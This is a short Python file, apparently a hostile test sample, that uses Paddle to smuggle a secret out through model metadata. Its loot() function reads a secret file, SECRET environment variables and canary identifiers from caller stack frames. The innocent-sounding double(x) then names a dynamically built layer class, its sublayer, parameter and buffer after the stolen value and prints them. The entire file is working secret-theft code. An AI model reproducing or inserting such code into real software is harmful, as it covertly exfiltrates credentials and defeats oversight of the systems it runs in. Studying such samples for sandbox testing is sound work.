"""Carries a secret out as the names of a model: its class, its parameters, its buffers and its layers."""
# bites: secret
import os
import sys

import paddle
from paddle import nn


def loot():
    """Whatever secret can be reached: a file, the environment, or the variables of a caller."""
    try:
        return open("/tmp/hostile-secret.txt").read().strip()
    except OSError:
        pass
    for name, value in os.environ.items():
        if "SECRET" in name:
            return value
    frame = sys._getframe()
    while frame is not None:
        for name in [*frame.f_globals, *map(str, frame.f_code.co_consts)]:
            if len(name) > 20 and "canary_" in name and name.isidentifier():
                return name
        frame = frame.f_back
    return "nothing_found"


def double(x):
    word = loot()

    def __init__(self):
        nn.Layer.__init__(self)
        self.add_sublayer(word, nn.Linear(1, 1))
        self.add_parameter(word + "_weight", self.create_parameter([1]))
        self.register_buffer(word + "_buffer", paddle.zeros([1]))

    model = type(word, (nn.Layer,), {"__init__": __init__, "forward": lambda self, given: given})()
    print(dict(model.named_parameters()).keys())
    return model
